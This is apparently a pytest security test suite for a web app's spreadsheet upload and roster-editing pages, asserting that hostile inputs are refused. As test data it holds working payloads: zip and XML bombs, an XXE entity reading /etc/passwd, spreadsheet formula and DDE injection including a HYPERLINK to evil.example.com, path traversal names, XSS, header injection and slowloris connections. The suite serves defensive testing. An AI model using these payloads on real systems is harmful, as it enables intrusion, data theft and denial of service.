"""What somebody who means harm may send as a table, or in place of one; nothing of it succeeds."""

from __future__ import annotations

import csv
import io
import resource
import socket
import time
import zipfile
import zlib
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
import xlsxwriter

from tests.e2e.browsing import XSS, account, county, log_in, page_of, token_on
from tests.e2e.test_web_tables import asked, book, confirm, filled, hidden, sent

UNITS = [["单位", "分组"], ["甲镇", "镇街"], ["乙镇", "镇街"], ["丙局", "部门"], ["丁局", "部门"]]
AT = "/roster/units"
SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = county(tmp_path_factory.mktemp("uploads"))
    account(home, "李主任", "deputy")
    account(home, "吴工", "operator")
    return home


def files(home: Path) -> dict[str, bytes]:
    """All that a table could have been written to."""
    return {
        str(path): path.read_bytes()
        for path in home.rglob("*")
        if path.is_file() and not path.name.startswith("tongbao.db")
    }


def changed(parts: dict[str, bytes], rows: list[list[str]] = UNITS) -> bytes:
    """A workbook of the units with other parts in it."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(book(rows))) as old,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for member in old.infolist():
            if member.filename not in parts:
                new.writestr(member, old.read(member))
        for name, content in parts.items():
            new.writestr(name, content)
    return made.getvalue()


def rows_of(markup: bytes, before: bytes = b"") -> bytes:
    space = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return before + b"<worksheet " + space + b"><sheetData>" + markup + b"</sheetData></worksheet>"


def locked() -> bytes:
    """A workbook with a password, as the zip format has them."""
    content = bytearray(book(UNITS))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + at] |= 1
    return bytes(content)


LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
NO_TABLES = {
    "bomb": changed({"xl/media/x.xml": bytes(80 * 2**20)}),
    "bomb in the sheet": changed({SHEET: rows_of(b"<row/>" * 2_000_000)}),
    "many parts": changed({f"xl/{number}.xml": b"<x/>" for number in range(2_100)}),
    "far corner": changed({SHEET: rows_of(b'<row r="1048576"><c r="XFD1048576"/></row>')}),
    "far corner in disguise": changed({SHEET: rows_of(b'<row x=">" r="1048576"/>')}),
    "laughs": changed({SHEET: rows_of(b"", b'<!DOCTYPE x [<!ENTITY l0 "x">' + LAUGHS + b"]>")}),
    "outside": changed(
        {SHEET: rows_of(b"", b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')}
    ),
    "password": locked(),
    "torn": book(UNITS)[:-300],
    "document": changed({"xl/workbook.bin": b"x"}),
    "old workbook": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "web page": b"<!DOCTYPE html><script>alert(1)</script>",
    "pdf": b"%PDF-1.7\n",
    "nul": b"\xe5\x8d\x95\x00,\x00\n",
    "quote": '单位,分组\n"甲镇,镇街\n'.encode(),
    "nothing": b"",
}


@pytest.mark.parametrize("kind", NO_TABLES)
def test_what_is_no_table_is_refused_before_anything_is_made_of_it(
    home: Path, clerk: httpx.Client, kind: str
) -> None:
    before = files(home)
    answer = sent(clerk, AT, NO_TABLES[kind])
    assert answer.status_code == 400, answer.text
    assert "root:" not in answer.text
    assert "<script>alert" not in answer.text
    assert files(home) == before


def test_no_upload_takes_the_server_s_memory(home: Path, clerk: httpx.Client) -> None:
    for content in NO_TABLES.values():
        sent(clerk, AT, content)
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < 1_000_000  # KiB


@pytest.mark.parametrize(
    "rows",
    [
        [["甲", "乙"], ["1", "2"]],
        [[]],
        [["单位", "单位", "分组"], ["甲镇", "甲镇", "镇街"]],
        [["单位", "分组"], ["甲镇", "镇街"], ["甲镇", "镇街"]],
        [["单位", "分组"]],
        [*UNITS, ["戊局"]],
    ],
)
def test_a_table_that_does_not_fit_is_shown_with_its_faults_and_not_written(
    home: Path, clerk: httpx.Client, rows: list[list[str]]
) -> None:
    before = files(home)
    page = clerk.get(sent(clerk, AT, book(rows)).headers["location"])
    assert "不能写入" in page.text
    form = {"token": token_on(clerk.get(AT)), "mark": hidden(clerk.get(AT), "mark")}
    assert clerk.post(f"{page.url.path}/write", data=form).headers["location"] == page.url.path
    assert files(home) == before


def test_a_table_of_very_long_cells_is_not_kept(home: Path, clerk: httpx.Client) -> None:
    rows = [["单位", "分组"], *([f"单位{number}", "长" * 32_000] for number in range(200))]
    assert sent(clerk, AT, book(rows)).status_code == 413


def test_an_archive_with_two_faces_shows_the_one_that_was_looked_through(
    home: Path, clerk: httpx.Client
) -> None:
    cell = '<c t="inlineStr"><is><t>{}</t></is></c>'
    cells = "".join(f"<row>{''.join(map(cell.format, row))}</row>" for row in UNITS)
    head = rows_of(cells.encode())
    whole = head + b" " * 1_000 + b"<row/>" * 1_000_000
    liar = changed({SHEET: whole})
    for fact, told in ((len(whole), len(head)), (zlib.crc32(whole), zlib.crc32(head))):
        liar = liar.replace(fact.to_bytes(4, "little"), told.to_bytes(4, "little"))
    page = clerk.get(sent(clerk, AT, liar).headers["location"])
    assert "新增0行" in page.text


def test_formulae_are_evaluated_by_nobody(home: Path, clerk: httpx.Client) -> None:
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as made:
        page = made.add_worksheet()
        for number, row in enumerate(UNITS):
            page.write_row(number, 0, row)
        page.write_string(0, 2, "联系人")
        page.write_formula(1, 2, "=1+1", value="3")
        page.write_formula(
            2, 2, '=HYPERLINK("http://evil.example.com/"&A1,"x")', value="=cmd|'/c calc'!A0"
        )
        page.write_formula(3, 2, '=WEBSERVICE("http://127.0.0.1/")', value="@SUM(1)")
        page.write_string(4, 2, "＝1+1")
    preview = clerk.get(sent(clerk, AT, content.getvalue()).headers["location"])
    confirm(clerk, preview)
    text = (home / "units.csv").read_text("utf-8-sig")
    found = [row["联系人"] for row in csv.DictReader(io.StringIO(text))]
    assert found == ["3", "'=cmd|'/c calc'!A0", "'@SUM(1)", "'＝1+1"]
    assert "WEBSERVICE" not in text
    with zipfile.ZipFile(io.BytesIO(clerk.get(f"{AT}/file.xlsx").content)) as parts:
        assert b"<f>" not in parts.read(SHEET)
        assert not [name for name in parts.namelist() if "external" in name or "vba" in name]


def test_what_a_workbook_links_to_is_asked_by_nobody(home: Path, clerk: httpx.Client) -> None:
    with socket.create_server(("127.0.0.1", 0)) as trap:
        trap.settimeout(1)
        target = f"http://127.0.0.1:{trap.getsockname()[1]}/x".encode()
        relation = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/externalLinkPath" Target="' + target + b'" TargetMode="External"/>'
            b"</Relationships>"
        )
        parts = {"xl/externalLinks/_rels/externalLink1.xml.rels": relation}
        assert sent(clerk, AT, changed(parts)).status_code == 303
        with pytest.raises(TimeoutError):
            trap.accept()


@pytest.mark.parametrize(
    "name",
    [
        "../../tongbao.toml",
        "C:\\县\\..\\tongbao.toml",
        "/etc/passwd",
        f"{XSS}.xlsx",
        "x" * 900,
        "a\x00b",
    ],
)
def test_the_name_of_a_file_leads_nowhere(home: Path, clerk: httpx.Client, name: str) -> None:
    before = files(home)
    answer = sent(clerk, AT, book(UNITS), name)
    assert answer.status_code in (303, 400)
    if answer.status_code == 303:
        page = clerk.get(answer.headers["location"]).text
        assert "<script>alert" not in page
        assert "../" not in page
    assert files(home) == before


@pytest.mark.parametrize(
    "path",
    [
        "/roster/tongbao",
        "/roster/..%2ftongbao",
        "/roster/units.csv",
        "/roster/依申请公开",
        "/registers/units",
        "/registers/..%2funits",
        "/registers/%2e%2e",
        "/roster/units/file.toml",
        "/roster/units/file.csv%00.xlsx",
        "/roster/units/file.",
        "/roster/units/rows/1",
        "/roster/units/rows/999999999999999999999999",
        "/roster/units/changes/guessed",
        "/roster/units/changes/..%2f..%2f",
    ],
)
def test_no_address_leads_to_another_file(clerk: httpx.Client, path: str) -> None:
    answer = clerk.get(path)
    assert answer.status_code == 404
    assert "[portal]" not in answer.text


def test_markup_and_lines_in_cells_stay_in_their_cells(home: Path, clerk: httpx.Client) -> None:
    said = f'{XSS}\r\n"戊局",部门,\r\nSet-Cookie: a=b{{{{7*7}}}}'
    page = asked(clerk, AT, filled(clerk.get(f"{AT}/rows/2")) | {"cell:联系人": said})
    assert "修改1行" in page.text
    confirm(clerk, page)
    text = (home / "units.csv").read_text("utf-8-sig")
    assert [row["单位"] for row in csv.DictReader(io.StringIO(text))] == [
        row[0] for row in UNITS[1:]
    ]
    for place in (AT, f"{AT}/rows/2", "/audit", page.url.path):
        shown = clerk.get(place)
        assert "<script>alert" not in shown.text
        assert "a" not in shown.cookies
        assert "49" not in shown.text.partition("{{7*7}}")[2][:5]


def test_a_row_that_would_not_be_read_as_one_is_not_written(
    home: Path, clerk: httpx.Client
) -> None:
    before = files(home)
    for cells in (
        {"cell:单位": "示例：戊局", "cell:分组": "部门"},
        {"cell:单位": "单位", "cell:分组": "分组"},
    ):
        page = asked(clerk, AT, filled(clerk.get(f"{AT}/rows/new")) | cells)
        assert "不能写入" in page.text
    token = token_on(clerk.get(AT))
    for cells in (
        {"cell:单位": "x" * 2_001},
        {"cell:单位": "\x07"},
        {"cell:单位": " "},
        {"number": "-1", "cell:单位": "x"},
    ):
        assert clerk.post(f"{AT}/rows", data={"token": token, **cells}).status_code == 400
    assert files(home) == before


@pytest.mark.parametrize("token", ["", "guessed", "0" * 64])
def test_a_form_of_another_page_changes_no_table(
    home: Path, clerk: httpx.Client, token: str
) -> None:
    before = files(home)
    page = asked(clerk, AT, filled(clerk.get(f"{AT}/rows/2")) | {"cell:联系人": "丁"})
    form = {"token": token, "mark": hidden(page, "mark")}
    assert clerk.post(f"{page.url.path}/write", data=form).status_code == 403
    assert clerk.post(f"{AT}/rows", data={"token": token, "cell:单位": "x"}).status_code == 403
    answer = clerk.post(f"{AT}/upload", data={"token": token}, files={"file": ("t.csv", b"x")})
    assert answer.status_code == 403
    assert files(home) == before


def test_nobody_sends_a_table_who_may_not(home: Path, url: str, clerk: httpx.Client) -> None:
    before = files(home)
    table = {"file": ("t.xlsx", bytes(4 * 2**20))}
    token = token_on(clerk.get(AT))
    stranger = httpx.post(f"{url}{AT}/upload", data={"token": token}, files=table)
    assert stranger.headers["location"] == "/login"
    mine = page_of(home, "乙镇")
    with httpx.Client(base_url=url) as unit:
        own = token_on(unit.get(f"{mine}/columns/2"))
        answer = unit.post(f"{AT}/upload", data={"token": own}, files=table)
        assert answer.headers["location"] == "/login"
        assert unit.post(f"{mine}/upload", data={"token": own}, files=table).status_code == 404
    with httpx.Client(base_url=url) as operator:
        log_in(operator, "吴工")
        own = token_on(operator.get("/crawls"))
        assert operator.post(f"{AT}/upload", data={"token": own}, files=table).status_code == 403
        for path in (AT, f"{AT}/file.csv", f"{AT}/rows/2", "/registers/部门信箱"):
            assert operator.get(path).status_code == 403
    assert files(home) == before


@pytest.mark.parametrize("method", ["GET", "PUT", "DELETE", "PATCH", "HEAD"])
def test_a_table_is_changed_by_a_form_alone(home: Path, clerk: httpx.Client, method: str) -> None:
    before = files(home)
    page = asked(clerk, AT, filled(clerk.get(f"{AT}/rows/2")) | {"cell:联系人": "丁"})
    query = {"token": token_on(page), "mark": hidden(page, "mark"), "do": "remove", "number": "2"}
    for path in (f"{page.url.path}/write", f"{AT}/rows", f"{AT}/upload"):
        assert clerk.request(method, path, params=query).status_code == 405
    assert files(home) == before


def test_a_change_that_is_written_is_written_once(home: Path, clerk: httpx.Client) -> None:
    page = asked(
        clerk, AT, filled(clerk.get(f"{AT}/rows/new")) | {"cell:单位": "己局", "cell:分组": "部门"}
    )
    assert confirm(clerk, page).status_code == 303
    assert confirm(clerk, page).status_code == 404
    assert (home / "units.csv").read_text("utf-8-sig").count("己局") == 1


@pytest.mark.parametrize(
    ("content", "kind", "status"),
    [
        (bytes(6 * 2**20), "multipart/form-data; boundary=a", 400),
        (
            b"--a\r\nContent-Disposition: form-data; name=x\r\n\r\n" + bytes(6 * 2**20),
            "multipart/form-data; boundary=a",
            (400, 413),
        ),
        (b"x", "multipart/form-data", 400),
        (b"--a\r\n", "multipart/form-data; boundary=a", (400, 403)),
        (
            b"--a\r\nContent-Disposition: x\r\n\r\nx\r\n--a--",
            "multipart/form-data; boundary=a",
            400,
        ),
        (
            b"--a\r\n" + b"H: x\r\n" * 9_000 + b"\r\nx\r\n--a--",
            "multipart/form-data; boundary=a",
            400,
        ),
        (
            b'--a\r\nContent-Disposition: form-data; name="x"\r\n\r\n1\r\n' * 400 + b"--a--",
            "multipart/form-data; boundary=a",
            400,
        ),
        (
            b'--a\r\nContent-Disposition: form-data; name="x"; filename="x"\r\n\r\n1\r\n' * 3
            + b"--a--",
            "multipart/form-data; boundary=a",
            400,
        ),
        (b"token=x", "application/x-www-form-urlencoded", 415),
        (b"{}", "application/json", 415),
    ],
)
def test_a_body_that_is_no_form_with_a_file_is_refused(
    home: Path, clerk: httpx.Client, content: bytes, kind: str, status: int | tuple[int, ...]
) -> None:
    before = files(home)
    answer = clerk.post(f"{AT}/upload", content=content, headers={"content-type": kind})
    assert answer.status_code in (status if isinstance(status, tuple) else (status,))
    assert files(home) == before


def test_slow_uploads_hold_nobody_up_and_end(url: str, clerk: httpx.Client) -> None:
    cookie = f"tongbao-login={clerk.cookies['tongbao-login']}"
    head = (
        f"POST {AT}/upload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000000\r\n"
        f"Cookie: {cookie}\r\nContent-Type: multipart/form-data; boundary=a\r\n\r\n--a\r\n"
    )
    place = urlsplit(url).hostname, urlsplit(url).port
    lines = [socket.create_connection(place) for _ in range(60)]
    try:
        begun = time.monotonic()
        for line in lines:
            line.sendall(head.encode())
        assert httpx.get(f"{url}/healthz", timeout=8).status_code == 200
        lines[0].settimeout(60)
        assert b" 408 " in lines[0].recv(100)
        assert time.monotonic() - begun >= 9
    finally:
        for line in lines:
            line.close()
